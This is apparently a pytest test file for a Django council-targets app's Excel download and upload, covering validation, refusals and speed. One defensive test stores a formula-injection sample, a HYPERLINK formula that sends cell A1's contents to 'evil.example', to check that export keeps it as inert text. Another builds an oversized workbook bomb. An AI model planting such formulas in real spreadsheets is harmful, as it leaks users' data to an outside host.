"""The year's targets workbook: downloaded, filled in offline, uploaded back; the whole file
checked first, every problem named by row and column, all or nothing, bounded like a return
workbook."""

from __future__ import annotations

import io
import time
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from indicators.models import Indicator, Period
from indicators.tests.factories import IndicatorFactory
from returns.imports import ImportRejected
from returns.tests.import_files import foreign_workbook, with_part
from status.periods import Aggregation
from targets.models import TargetState, YearTarget
from targets.profiles import Profile
from targets.queries import indicators_in_scope, year_rows
from targets.workbooks import ABOUT_SHEET, TARGETS_SHEET, targets_workbook, upload_targets
from targets.workflow import Setting, set_targets

pytestmark = pytest.mark.django_db


def download(town, year, person="performance") -> bytes:
    user = town.person(person)
    rows = year_rows(
        indicators_in_scope(user), year, today=timezone.localdate(), council=town.council
    )
    return targets_workbook(year, rows)


def filled(content: bytes, rows: dict[str, dict[str, object]], about=None) -> bytes:
    """The workbook with cells changed as a performance officer would: by code and header."""
    book = load_workbook(io.BytesIO(content))
    sheet = book[TARGETS_SHEET]
    columns = {cell.value: cell.column for cell in sheet[1]}
    by_code = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    for code, cells in rows.items():
        for header, value in cells.items():
            sheet.cell(row=by_code[code], column=columns[header]).value = value
    for key_cell, fact_cell in book[ABOUT_SHEET].iter_rows(max_col=2):
        if key_cell.value in (about or {}):
            fact_cell.value = about[key_cell.value]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(town, year, content: bytes, *, reason="", name="targets.xlsx"):
    user = town.person("performance")
    return upload_targets(
        SimpleUploadedFile(name, content),
        year=year,
        indicators=indicators_in_scope(user),
        by=user,
        reason=reason,
        name=name,
    )


def refused(town, year, content: bytes, **kwargs) -> str:
    """Every problem of a refused upload, one per line."""
    with pytest.raises(ImportRejected) as rejected:
        upload(town, year, content, **kwargs)
    return "\n".join(p["message"] for p in rejected.value.problems)


def sheet_rows(content: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(content))[TARGETS_SHEET]
    headers = [c.value for c in sheet[1]]
    return [
        dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


def test_the_workbook_lists_every_indicator_with_its_outturn_and_limits(town, next_year):
    rows = {row["Code"]: row for row in sheet_rows(download(town, next_year))}
    assert list(rows) == ["LIB-01", "PRK-01", "WST-01", "WST-02", "WST-03"]
    wst = rows["WST-01"]
    assert wst["Service"] == "Waste and Recycling" and wst["Directorate"] == "Place"
    assert wst["Lower process limit"] < 45 < wst["Upper process limit"]
    assert wst["Agreement"] == "Not set" and wst["Annual target"] is None
    # 2026/27 is not over: no year's figure yet. 2025/26's is its last quarter's (a snapshot).
    assert rows["WST-01"]["Last year's outturn"] is None
    this_year = Period.objects.get(kind="financial_year", code="2026-27")
    rows = {row["Code"]: row for row in sheet_rows(download(town, this_year))}
    assert rows["WST-01"]["Last year's outturn"] == 45


def test_a_directors_workbook_holds_only_their_directorate(town, next_year):
    codes = [row["Code"] for row in sheet_rows(download(town, next_year, "director"))]
    assert codes == ["PRK-01", "WST-01", "WST-02", "WST-03"]


def test_targets_entered_in_the_workbook_are_saved_as_drafts(town, next_year):
    content = filled(
        download(town, next_year),
        {
            "WST-01": {"Annual target": 50, "Tolerance %": 5, "Rationale": "Up 5 points"},
            "WST-02": {"Profile": "Typed per period", "Q1": 25, "Q2": 28, "Q3": 31, "Q4": 30},
        },
    )
    saved = upload(town, next_year, content)
    assert sorted(t.indicator.code for t in saved) == ["WST-01", "WST-02"]
    recycled = YearTarget.objects.get(indicator__code="WST-01")
    assert (recycled.annual, recycled.tolerance_percent, recycled.rationale) == (
        D(50),
        D(5),
        "Up 5 points",
    )
    composted = YearTarget.objects.get(indicator__code="WST-02")
    # A snapshot's year is its last period: typed quarters make the annual target.
    assert composted.profile == Profile.TYPED and composted.annual == D(30)
    assert composted.state == TargetState.DRAFT


def test_a_workbook_uploaded_back_unchanged_changes_nothing(town, next_year):
    set_targets(
        year=next_year,
        settings=[
            Setting(
                indicator=Indicator.objects.get(code="WST-01"),
                annual=D("50.5"),
                rationale='=HYPERLINK("http://evil.example/?"&A1)',
            ),
            Setting(
                indicator=Indicator.objects.get(code="WST-02"),
                annual=D(30),
                profile=Profile.TYPED,
                typed=(D(25), D(28), D(31), D(30)),
            ),
        ],
        by=town.person("performance"),
    )
    content = download(town, next_year)
    # Text is written as text, never a live formula.
    assert sheet_rows(content)[2]["Rationale"].startswith("'=HYPERLINK")
    assert upload(town, next_year, content) == []
    assert YearTarget.objects.get(indicator__code="WST-01").rationale.startswith("=HYPERLINK")


def test_every_problem_is_named_by_row_and_column_and_nothing_is_saved(town, next_year):
    content = filled(
        download(town, next_year),
        {
            "LIB-01": {"Annual target": "12,5", "Profile": "Lumpy"},
            "PRK-01": {"Annual target": 80, "Apr": 10},
            "WST-01": {"Annual target": 50},
            "WST-02": {"Profile": "Seasonal", "Annual target": 30},
            "WST-03": {"Profile": "Typed per period", "Q1": 1, "Q2": 2},
        },
    )
    with pytest.raises(ImportRejected) as rejected:
        upload(town, next_year, content)
    found = {(p["row"], p["field"]) for p in rejected.value.problems}
    assert found == {
        (2, "Annual target"),
        (2, "Profile"),
        (3, "Apr"),
    }
    assert not YearTarget.objects.exists()
    # Once each row reads, the workflow's own checks are named by row and column too.
    content = filled(
        content, {"LIB-01": {"Annual target": 1250, "Profile": None}, "PRK-01": {"Apr": None}}
    )
    with pytest.raises(ImportRejected) as rejected:
        upload(town, next_year, content)
    messages = {(p["row"], p["field"]): p["message"] for p in rejected.value.problems}
    assert set(messages) == {(5, "Profile"), (6, "Q1 to Q4")}
    assert messages[(5, "Profile")].startswith("Row 5, Profile: WST-02: there is no complete")
    assert "Enter a target for every quarter" in messages[(6, "Q1 to Q4")]
    assert not YearTarget.objects.exists()


def test_a_workbook_of_another_year_or_not_ours_is_refused(town, next_year, this_year):
    assert "holds the targets for 2026/27, not 2027/28" in refused(
        town, next_year, download(town, this_year)
    )
    assert "is not a targets workbook" in refused(town, next_year, foreign_workbook())
    assert "is not an Excel workbook" in refused(town, next_year, b"Code,Annual\nWST-01,50\n")


def test_a_workbook_that_unpacks_too_far_is_refused_before_it_is_read(town, next_year):
    bomb = with_part(download(town, next_year), "xl/media/image1.png", 30 * 1024 * 1024)
    assert "unpacks to 30" in refused(town, next_year, bomb)


def test_after_the_year_started_an_upload_needs_a_reason(town, this_year):
    content = filled(download(town, this_year), {"WST-01": {"Annual target": 50}})
    assert "started on 1 April 2026" in refused(town, this_year, content)
    assert not YearTarget.objects.exists()
    upload(town, this_year, content, reason="Agreed at the July review")
    assert YearTarget.objects.get().change_reason == "Agreed at the July review"


def test_a_counties_worth_of_targets_is_made_and_checked_in_seconds(town, next_year):
    """1,000 indicators: the workbook made, uploaded with every row filled, checked and saved."""
    IndicatorFactory.create_batch(995, owner=town.waste, aggregation=Aggregation.sum, unit="")
    started = time.perf_counter()
    content = download(town, next_year)
    made = time.perf_counter() - started
    book = load_workbook(io.BytesIO(content))
    sheet = book[TARGETS_SHEET]
    annual = next(c.column for c in sheet[1] if c.value == "Annual target")
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row=row, column=annual).value = 1000
    out = io.BytesIO()
    book.save(out)
    started = time.perf_counter()
    saved = upload(town, next_year, out.getvalue())
    checked = time.perf_counter() - started
    assert len(saved) == 1000
    print(
        f"\n1,000 indicators: workbook made in {made:.1f} s, checked and saved in {checked:.1f} s"
    )
    assert made < 30 and checked < 60
